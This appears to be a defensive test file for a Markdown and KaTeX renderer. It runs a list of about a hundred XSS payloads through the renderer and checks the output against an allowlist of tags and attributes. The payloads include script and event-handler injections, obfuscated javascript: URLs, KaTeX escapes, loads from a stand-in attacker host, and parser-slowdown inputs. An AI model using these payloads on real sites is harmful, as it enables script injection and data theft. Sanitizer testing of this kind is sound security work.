import fc from "fast-check"
import { expect, test } from "vitest"
import { renderMarkdown } from "@/server/render/render-markdown"
import { readTags } from "@/tests/support/read-html"

// What attackers write, from the public collections of such tricks, in our own selection: markup,
// URLs, Markdown, formulas, code, and mixtures that try to break out of each.
const u = "javascript:alert(1)"
export const hostile: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/p.png'>",
  '"><img src=x onerror=alert(1)>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext></mtext><script>alert(1)</script></math>",
  "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
  `<iframe src="${u}"></iframe>`,
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  `<object data="${u}"></object>`,
  "<embed src='data:text/html;base64,PHNjcmlwdD4='>",
  `<form action="${u}"><button>x</button></form>`,
  `<button formaction="${u}">x</button>`,
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'</style>",
  "<style>*{background:url(//evil.example)}</style>",
  "<div style=\"background:url('//evil.example/x')\">",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//evil.example/>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><script>alert(1)</script>",
  "<title></title><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?><script>alert(1)</script>",
  "<a href=javascript:alert(1)>x</a>",
  "<x onclick=alert(1)>x</x>",
  "<p id=constructor name=body class=katex>clobber</p>",
  `[x](${u})`,
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](%6Aavascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://a.example/1)",
  "[x](//evil.example)",
  '[x](https://a.example "onmouseover=alert(1)")',
  "[x](https://a.example'onmouseover='alert(1))",
  '[x](https://a.example/"onmouseover="alert(1))',
  `<${u}>`,
  "<data:text/html,x>",
  "![x](https://evil.example/pixel.png)",
  `![x](${u})`,
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '![x" onerror="alert(1)](y)',
  `[x]\n\n[x]: ${u}`,
  `![x][y]\n\n[y]: ${u} "t"`,
  `[^1]\n\n[^1]: <script>alert(1)</script>`,
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\n```',
  '```js" onload="alert(1)\nx\n```',
  "~~~<img src=x onerror=alert(1)>\nx\n~~~",
  "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "# <script>alert(1)</script>",
  "- [x] <input onfocus=alert(1) autofocus>",
  "$<script>alert(1)</script>$",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{javascript:alert(1)}$",
  "$\\includegraphics{https://evil.example/x.png}$",
  '$\\htmlClass{x" onclick="alert(1)}{y}$',
  "$\\htmlStyle{background:url(//evil.example)}{y}$",
  "$\\htmlData{x=y}{z}$",
  "$\\htmlId{x}{y}$",
  "$\\text{</annotation></semantics></math><script>alert(1)</script>}$",
  "$\\color{red;background:url(//evil.example)}{x}$",
  '$\\color{#fff" onclick="alert(1)}{x}$',
  "$\\def\\x{\\x\\x}\\x$",
  "$\\rule{9999em}{9999em}$",
  "$$\\unicode{x3c}script>$$",
  "www.evil.example/<script>alert(1)</script>",
  'https://evil.example/"onmouseover="alert(1)',
  "mailto:x@evil.example?body=<script>",
  "x\ue0000\ue001<script>alert(1)</script>\ue0009\ue001",
  "\u202e<script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "\\<script>alert(1)\\</script>",
  "**<b onclick=alert(1)>**x**</b>**",
]

const katexTags = new Set([
  ..."math semantics annotation mrow mi mo mn ms mtext mspace msup msub msubsup mfrac msqrt mroot mover munder".split(
    " ",
  ),
  ..."munderover mtable mtr mtd mlabeledtr mpadded mphantom menclose mstyle merror svg path line g".split(
    " ",
  ),
])
const textTags = new Set(
  "p br hr h3 h4 h5 h6 blockquote ul ol li pre code div span strong em del a table thead tbody tr th td input".split(
    " ",
  ),
)
const harmless = new Set([
  ..."class dir tabindex role aria-label aria-hidden href rel target start value align type checked disabled style".split(
    " ",
  ),
  // MathML and the drawn parts of KaTeX.
  ..."xmlns encoding display mathvariant stretchy fence separator lspace rspace minsize maxsize width height".split(
    " ",
  ),
  ..."viewbox preserveaspectratio d x1 x2 y1 y2 stroke-width accent accentunder displaystyle scriptlevel".split(
    " ",
  ),
  ..."columnalign columnspacing rowspacing rowlines columnlines linethickness depth voffset notation movablelimits".split(
    " ",
  ),
  ..."mathcolor mathbackground mathsize form side symmetric largeop frame framespacing linebreak".split(" "),
])

function harmOf(html: string): string | undefined {
  for (const { name, attributes } of readTags(html)) {
    if (!textTags.has(name) && !katexTags.has(name)) return `element ${name}`
    for (const [key, value] of attributes) {
      if (!harmless.has(key)) return `attribute ${key} on ${name}`
      if (key === "href" && (name !== "a" || !/^https?:\/\//i.test(value))) return `href ${value}`
      if (key === "style" && !/^(?:[a-z-]+:[#\w.,%\s()-]*;?)*$/i.test(value)) return `style ${value}`
      if (key === "style" && /url|expression|position\s*:\s*fixed/i.test(value)) return `style ${value}`
    }
  }
  return undefined
}

test("the collection is large enough", () => {
  expect(new Set(hostile).size).toBeGreaterThanOrEqual(60)
})

test.each(hostile)("does no harm: %j", (source) => {
  expect(harmOf(renderMarkdown(source).html)).toBeUndefined()
})

test("nor do any two of them together, nested in each other or cut anywhere", () => {
  const piece = fc.constantFrom(...hostile)
  const mixed = fc.oneof(
    fc.tuple(piece, piece).map(([a, b]) => `${a}${b}`),
    fc.tuple(piece, piece).map(([a, b]) => `> - ${a}\n  ${b}`),
    fc.tuple(piece, piece, fc.nat(60)).map(([a, b, cut]) => a.slice(0, cut) + b + a.slice(cut)),
    fc.tuple(piece, fc.nat(60)).map(([a, cut]) => a.slice(cut)),
    fc.tuple(piece, fc.string({ unit: "binary", maxLength: 20 })).map(([a, b]) => b + a),
  )
  fc.assert(
    fc.property(mixed, (source) => harmOf(renderMarkdown(source).html) === undefined),
    { numRuns: 500 },
  )
}, 60_000)

test("the check itself sees harm", () => {
  expect(harmOf('<img src="x">')).toBeDefined()
  expect(harmOf('<p onclick="x">')).toBeDefined()
  expect(harmOf('<a href="javascript:x">')).toBeDefined()
  expect(harmOf('<p style="background:url(x)">')).toBeDefined()
})

// Shapes that make Markdown parsers slow: one block as long as is rendered at all, and many of them.
const slow: readonly [string, (n: number) => string][] = [
  ["open brackets", (n) => "[".repeat(n)],
  ["brackets and parentheses", (n) => "[a](".repeat(n / 4)],
  ["images", (n) => "![".repeat(n / 2)],
  ["stars", (n) => "*a ".repeat(n / 3)],
  ["stars and underscores", (n) => "*_a ".repeat(n / 4)],
  ["nested emphasis", (n) => "*a **a ".repeat(n / 7)],
  ["tildes", (n) => "~~a ".repeat(n / 4)],
  [
    "backticks of every length",
    (n) =>
      Array.from({ length: Math.sqrt(n) * 1.4 }, (_, i) => "`".repeat(i + 1))
        .join(" ")
        .slice(0, n),
  ],
  ["angle brackets", (n) => "<".repeat(n)],
  ["dollars", (n) => "$a".repeat(n / 2)],
  ["open formulas", (n) => "\\(".repeat(n / 2)],
  ["open displays", (n) => "$$ ".repeat(n / 3)],
  ["formulas", (n) => "$x$ ".repeat(n / 4)],
  ["ampersands", (n) => "&".repeat(n)],
  ["a wide table", (n) => `${"|a".repeat(n / 4)}|\n${"|-".repeat(n / 4)}|`],
  ["a tall table", (n) => `|a|\n|-|\n${"|b|\n".repeat(n / 4)}`],
  ["quotes", (n) => ">".repeat(40) + " a\n".repeat(n / 3)],
  ["lists", (n) => "- ".repeat(40) + "a\n- b".repeat(n / 5)],
  ["lines", (n) => "a\n".repeat(n / 2)],
  ["paragraphs", (n) => "a\n\n".repeat(n / 3)],
  ["addresses", (n) => "www.a ".repeat(n / 6)],
  ["mail", (n) => "a@b.".repeat(n / 4)],
  ["underscored mail", (n) => `${"a_".repeat(n / 2)}@`],
  ["code", (n) => `\`\`\`js\n${"a(b){/*".repeat(n / 7)}`],
]
test.each(slow)(
  "%s take bounded time",
  (name, make) => {
    const block = make(19_000).slice(0, 19_000).split("\n").slice(0, 590).join("\n")
    const many = `${make(1_900).slice(0, 1_900)}\n\n`.repeat(30).slice(0, 59_000).split("\n")
    // The worst of them as often as a text can hold them; all of them that often would take minutes.
    const worst = ["a tall table", "addresses", "open formulas"].includes(name)
    for (const source of worst ? [block, many.slice(0, 2_990).join("\n")] : [block]) {
      // Time of the processor, so that a busy machine makes no difference.
      const before = process.cpuUsage()
      const { html } = renderMarkdown(source)
      const { user } = process.cpuUsage(before)
      expect(harmOf(html)).toBeUndefined()
      expect(user / 1000).toBeLessThan(6_000)
    }
  },
  60_000,
)
